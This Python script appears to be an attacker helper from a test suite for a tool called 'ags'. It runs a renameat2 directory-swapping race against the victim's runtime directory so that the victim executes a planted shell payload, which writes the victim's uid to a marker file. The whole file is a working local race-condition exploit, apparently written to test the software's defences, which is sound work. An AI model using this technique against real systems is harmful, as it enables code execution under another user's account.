#!/usr/bin/env python3
"""Another local user who owns the victim's $XDG_RUNTIME_DIR (as after `su` from that user's
session, which keeps the variable) attacks the `ags` execution copies and their crash sweep in
`$XDG_RUNTIME_DIR/ags` (tests/offline/attacks_exec_root.rs). Run as the attacker until SECONDS pass:

  - one process swaps DIR/ags (the victim's own 0700 directory, which the attacker may rename:
    it owns DIR) with DIR/decoy, a symlink to DIR/evil, in a tight loop (renameat2
    RENAME_EXCHANGE), so the victim's checks and its later uses see different directories;
  - an execution directory the victim creates through the symlink lands in DIR/evil, which the
    attacker owns: it is swapped in a tight loop with a directory holding BASENAME, a payload
    that writes the victim's uid to MARKER.

usage: exec_root_attacker.py DIR BASENAME MARKER SECONDS
Prints "ready" once the decoys are in place.
"""
import ctypes
import os
import sys
import time

D, BASE, MARKER, SECONDS = sys.argv[1:5]
END = time.monotonic() + float(SECONDS)
libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2


def exchange(a, b):
    libc.renameat2(AT_FDCWD, a.encode(), AT_FDCWD, b.encode(), RENAME_EXCHANGE)


def forever(a, b, until):
    while time.monotonic() < until:
        for _ in range(200):
            exchange(a, b)


evil = os.path.join(D, "evil")
os.makedirs(evil, exist_ok=True)
os.chmod(evil, 0o755)
decoy = os.path.join(D, "decoy")
if not os.path.lexists(decoy):
    os.symlink(evil, decoy)
payload = "#!/bin/sh\nid -u >%s\necho '{\"version\":1}'\n" % MARKER
children = []
pid = os.fork()
if pid == 0:
    forever(os.path.join(D, "ags"), decoy, END)
    os._exit(0)
children.append(pid)
print("ready", flush=True)
seen = set()
while time.monotonic() < END:
    for name in os.listdir(evil):
        if not name.startswith("ags-hook-exec-") or name in seen:
            continue
        seen.add(name)
        swap = os.path.join(evil, ".swap-" + name)
        os.makedirs(swap, exist_ok=True)
        path = os.path.join(swap, BASE)
        with open(path, "w") as f:
            f.write(payload)
        os.chmod(path, 0o700)
        pid = os.fork()
        if pid == 0:
            forever(os.path.join(evil, name), swap, min(END, time.monotonic() + 5))
            os._exit(0)
        children.append(pid)
    time.sleep(0.0002)
for pid in children:
    os.waitpid(pid, 0)
